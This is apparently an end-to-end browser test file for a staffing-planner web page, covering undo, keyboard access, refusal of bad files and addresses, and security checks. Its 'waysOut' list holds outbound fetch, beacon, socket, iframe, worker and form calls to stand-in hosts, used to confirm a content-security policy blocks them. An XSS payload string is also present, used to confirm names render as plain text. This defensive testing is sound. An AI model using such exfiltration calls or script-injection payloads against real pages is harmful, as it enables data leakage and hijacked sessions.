import type { Page } from "playwright";
import { expect } from "vitest";
import { parse } from "yaml";
import { brokenRules, tooWide } from "./broken-rules.ts";
import { pageTest } from "./page-test.ts";
import {
  bytesOf,
  firstAnswer,
  linkTo,
  plannerAddress,
  refinedAnswer,
  scenarioOfPage,
  smallService,
  twoServices,
  unfold
} from "./planner-page.ts";

// The planner in the hands of people: who undo, who have no mouse, who hear the page, who drop the wrong file.

const fieldOf = (page: Page) => page.locator("#set-new-patients");

pageTest("steps are undone and done again, and a drag of a slider is one step", async ({ open }) => {
  const { page } = await open(linkTo(smallService));
  await firstAnswer(page);
  const headline = await page.locator("#headline").innerText();
  expect(await page.locator("#undo").isDisabled()).toBe(true);
  for (let i = 0; i < 3; i++) await page.locator("#slide-new-patients").press("ArrowRight");
  await page.locator("#group-targets > summary").click();
  await page.locator("#set-reading").selectOption("both");
  const last = scenarioOfPage(page);
  expect(last).toMatchObject({ newPatientsPerYear: 11, reading: "both" });

  await page.locator("#undo").click();
  expect(scenarioOfPage(page)).toEqual({ ...smallService, newPatientsPerYear: 11 });
  await page.locator("#undo").click();
  expect(scenarioOfPage(page)).toEqual(smallService);
  await expect.poll(() => fieldOf(page).inputValue()).toBe("8");
  await expect.poll(() => page.locator("#headline").innerText()).toBe(headline);
  expect(await page.locator("#undo").isDisabled()).toBe(true);

  await page.locator("#redo").click();
  await page.locator("#redo").click();
  expect(scenarioOfPage(page)).toEqual(last);
  await expect.poll(() => fieldOf(page).inputValue()).toBe("11");
  expect(await page.locator("#redo").isDisabled()).toBe(true);
});

pageTest(
  "up to three variants stand beside the service, by keyboard, and can be named and removed",
  async ({ open }) => {
    const { page } = await open(linkTo(smallService));
    await firstAnswer(page);
    for (let i = 0; i < 3; i++) await page.locator("#add-variant").press("Enter");
    expect(await page.locator("#add-variant").isDisabled()).toBe(true);
    await page.locator("#variant-name").fill("one post more");
    await page.locator("#variant-name").press("Enter");
    await firstAnswer(page);
    await page.locator("#post-0-wte").fill("1.8");
    await expect
      .poll(() => scenarioOfPage(page).variants)
      .toMatchObject([{}, {}, { name: "one post more", posts: [{ wte: 1.8 }] }]);
    expect(scenarioOfPage(page).posts).toEqual(smallService.posts);
    await page.locator("#remove-variant").click();
    expect(scenarioOfPage(page).variants).toHaveLength(2);
  }
);

pageTest("the card of a number opens and closes by keyboard and gives the focus back", async ({ open }) => {
  const { page } = await open(linkTo(smallService));
  await firstAnswer(page);
  const card = page.getByRole("dialog");
  for (const [close, place, terms] of [
    ["Escape", "#group-size .card-opener", ["Value", "Range", "Quality", "Why"]],
    ["Enter", "#price-money-1", ["Posts", "National insurance", "Pension"]]
  ] as const) {
    const opener = page.locator(place);
    await opener.focus();
    await page.keyboard.press("Enter");
    expect(await card.isVisible()).toBe(true);
    expect(await card.locator("dt").allInnerTexts()).toEqual(expect.arrayContaining([...terms]));
    expect(await card.locator("li").count()).toBeGreaterThan(0);
    expect(await card.locator(":focus").innerText()).toBe("Close");
    await page.keyboard.press(close);
    expect(await card.isVisible()).toBe(false);
    // at once, or once the browser has told that it is closed: a cost is drawn anew while its card is open
    await expect.poll(() => opener.evaluate((button) => button === document.activeElement)).toBe(true);
  }
});

/** Drops a file somewhere on the page, as the hand does that misses. */
const drop = (page: Page, name: string, text: string): Promise<void> =>
  page.evaluate(
    ([file = "", content = ""]) => {
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File([content], file));
      const options = { dataTransfer, bubbles: true, cancelable: true };
      document.querySelector("footer")?.dispatchEvent(new DragEvent("dragover", options));
      document.querySelector("footer")?.dispatchEvent(new DragEvent("drop", options));
    },
    [name, text]
  );

const badFiles = [
  ["two.yaml", "newPatientsPerYear: many\nposts: [{ role: cns, wte: -1 }]\nnurses: 4\n", 3],
  ["not.yaml", "posts: [\n  - :::", 1],
  ["list.yaml", "- 1\n- 2\n", 1],
  ["picture.png", "\u0089PNG\r\n\u001a\n\u0000\u0000", 1],
  ["empty.yaml", "", 1],
  ["large.yaml", `# ${"x".repeat(1_100_000)}\n`, 1],
  ["deep.yaml", `${"[".repeat(5000)}`, 1]
] as const;

pageTest("a file that is no scenario is refused with every reason, and changes nothing", async ({ open }) => {
  const { page } = await open(linkTo(smallService));
  await refinedAnswer(page);
  const before = { address: page.url(), headline: await page.locator("#headline").innerText() };
  const problems = page.getByRole("alert");
  for (const [name, text, least] of badFiles) {
    await drop(page, name, text);
    await problems.filter({ hasText: name }).waitFor();
    expect.soft(await problems.innerText(), name).toMatch(/nothing has changed/i);
    expect.soft(await problems.locator("li").count(), name).toBeGreaterThanOrEqual(least);
    expect.soft({ address: page.url(), headline: await page.locator("#headline").innerText() }).toEqual(before);
  }
  expect(await brokenRules(page)).toEqual([]);
  await drop(page, "good.yaml", "organisation: Own Trust\nnewPatientsPerYear: 20\nposts: []\n");
  await expect
    .poll(() => scenarioOfPage(page))
    .toEqual({ organisation: "Own Trust", newPatientsPerYear: 20, posts: [] });
  expect(await problems.innerText()).toBe("");
});

pageTest("an address that is damaged is said to be, and the page begins anew", async ({ open }) => {
  const { page } = await open(plannerAddress);
  for (const hash of ["#s=AAAA", "#s=%00", "#nonsense", `#s=${"A".repeat(20_000)}`]) {
    await page.goto("about:blank");
    await page.goto(`${plannerAddress}${hash}`);
    await page.getByRole("alert").getByText("The address could not be read").waitFor();
  }
  await firstAnswer(page);
  // There is time to read it: it stays until something else is asked for.
  expect(await page.getByRole("alert").innerText()).toMatch(/could not be read/);
  await page.evaluate(
    (hash) => {
      location.hash = hash;
    },
    new URL(linkTo(smallService)).hash
  );
  await expect.poll(() => page.getByRole("alert").innerText()).toBe("");
});

pageTest("an address that is damaged while the page is open changes nothing; another is taken", async ({ open }) => {
  const { page } = await open(linkTo(smallService));
  await firstAnswer(page);
  const address = page.url();
  await page.evaluate(() => {
    location.hash = "#s=AAAA";
  });
  await page.getByRole("alert").getByText("nothing has changed").waitFor();
  expect(page.url()).toBe(address);
  expect(scenarioOfPage(page)).toEqual(smallService);
  await page.evaluate(
    (hash) => {
      location.hash = hash;
    },
    new URL(linkTo({ ...smallService, organisation: "Own Trust" })).hash
  );
  await expect.poll(() => page.locator("#headline").innerText()).toMatch(/^Own Trust/);
  expect(await page.getByRole("alert").innerText()).toBe("");
});

const waysOut = [
  ["page", "void fetch('http://page.example/').catch(() => 0)"],
  ["picture", "void (new Image().src = 'http://picture.example/')"],
  ["beacon", "try { navigator.sendBeacon('http://beacon.example/', 'x') } catch {}"],
  ["socket", "try { new WebSocket('ws://socket.example/') } catch {}"],
  ["frame", "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://frame.example/' }))"],
  ["worker", "void new Worker(URL.createObjectURL(new Blob([\"fetch('http://worker.example/').catch(() => 0)\"])))"],
  [
    "script",
    "document.body.append(Object.assign(document.createElement('script'), { src: 'http://script.example/' }))"
  ],
  [
    "style",
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://style.example/' }))"
  ],
  [
    "form",
    "(() => { const form = document.createElement('form'); form.action = 'http://form.example/'; document.body.append(form); form.submit(); })()"
  ]
] as const;

pageTest("its own policy lets nothing out, whoever asks", async ({ open }) => {
  const { page, throughProxy } = await open(linkTo(smallService), { isProvoked: true });
  await firstAnswer(page);
  await page.evaluate(() => {
    const refused: string[] = [];
    Object.assign(globalThis, { refused });
    document.addEventListener("securitypolicyviolation", ({ blockedURI }) => refused.push(blockedURI));
  });
  for (const [, way] of waysOut) await page.evaluate(way);
  const refused = (): Promise<string> =>
    page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused.join(" "));
  // what a worker is refused it alone is told
  const told = waysOut.map(([name]) => name).filter((name) => name !== "worker");
  for (const name of told) await expect.poll(refused, { message: name }).toContain(`${name}.example`);
  expect(throughProxy).toEqual([]);
});

/** Presses Tab until something has the focus, as somebody does who has no mouse. */
async function tabTo(page: Page, selector: string): Promise<void> {
  for (let presses = 0; presses < 120; presses++) {
    if (await page.evaluate((wanted) => document.activeElement?.matches(wanted), selector)) return;
    await page.keyboard.press("Tab");
  }
  throw new Error(`not within reach of the keyboard: ${selector}`);
}

pageTest("a case is made by keyboard alone, from the name of the service to paper", async ({ open }) => {
  const { page } = await open(linkTo(smallService));
  await firstAnswer(page);
  await page.evaluate(() => {
    window.print = () => Object.assign(globalThis, { isPrinted: true });
  });
  const { keyboard } = page;
  const downloaded = async (button: string): Promise<string> => {
    await tabTo(page, button);
    const [download] = await Promise.all([page.waitForEvent("download"), keyboard.press("Enter")]);
    return (await bytesOf(download)).toString("utf8");
  };

  await keyboard.press("Tab");
  await keyboard.press("Enter");
  expect(await page.evaluate(() => document.activeElement?.id), "the link that skips").toBe("headline");
  await tabTo(page, "#set-organisation");
  await keyboard.press("Control+A");
  await keyboard.type("Own Trust");
  await tabTo(page, "#slide-new-patients");
  await keyboard.press("ArrowRight");
  await tabTo(page, "#add-supportWorker");
  await keyboard.press("Enter");
  await expect.poll(() => page.locator("#post-1-role").count()).toBe(1);
  expect(await page.evaluate(() => document.activeElement?.id)).toBe("add-supportWorker");
  await keyboard.press("Shift+Tab");
  await keyboard.press("Shift+Tab");
  expect(await page.evaluate(() => document.activeElement?.id)).toBe("post-1-remove");
  await keyboard.press("Enter");
  await expect.poll(() => page.locator("#post-1-role").count()).toBe(0);
  expect(await page.evaluate(() => document.activeElement?.id)).toBe("add-cns");
  await tabTo(page, "#group-money > summary");
  await keyboard.press("Enter");
  await tabTo(page, "#set-budget");
  await keyboard.type("30000");
  await expect
    .poll(() => scenarioOfPage(page))
    .toMatchObject({ organisation: "Own Trust", newPatientsPerYear: 9, posts: [{ wte: 0.8 }], budgetPounds: 30_000 });
  await refinedAnswer(page);

  // what it costs, and its figures
  await tabTo(page, "#working-money > summary");
  await keyboard.press("Enter");
  await page.locator("#working-money").getByRole("table").first().waitFor();
  expect(await page.locator("#part-money").innerText()).toContain("£30,000 a year");

  // beside the posts that were found, and back
  await page.keyboard.press("Control+Home");
  await tabTo(page, "body");
  await tabTo(page, "#add-found-0");
  await keyboard.press("Enter");
  expect(await page.evaluate(() => document.activeElement?.id)).toBe("service-1");
  await refinedAnswer(page);
  expect(await page.locator("#part-compared tbody tr").count()).toBe(2);
  const yaml = await downloaded("#download-scenario");
  expect(parse(yaml)).toEqual(scenarioOfPage(page));
  expect(parse(yaml).variants).toHaveLength(1);
  expect(await downloaded("#download-variants-csv")).toContain("work-in-time");
  await tabTo(page, "#print");
  await keyboard.press("Enter");
  expect(await page.evaluate(() => Reflect.get(globalThis, "isPrinted"))).toBe(true);
});

const hostile = "<img src=x onerror=alert(1)><script>alert(2)</script> 'x\" &lt;";

pageTest("names that would be markup are words, on screen and in what is handed out", async ({ open }) => {
  const scenario = {
    ...twoServices,
    organisation: hostile,
    variants: [{ ...(twoServices.variants as object[])[0], name: hostile }]
  };
  const { page } = await open(linkTo(scenario));
  await refinedAnswer(page);
  await unfold(page);
  expect(await page.locator("#headline").innerText()).toContain("<img src=x onerror=alert(1)>");
  expect(await page.locator("img, script:not(#program), iframe, object").count()).toBe(0);
  expect(await page.evaluate(() => document.querySelectorAll("*").length)).toBeGreaterThan(100);
  await page.locator("#service-1").click();
  expect(await page.locator("#variant-name").inputValue()).toContain("<img src=x");
  await page.setViewportSize({ width: 320, height: 640 });
  expect(await tooWide(page)).toEqual([]);
});
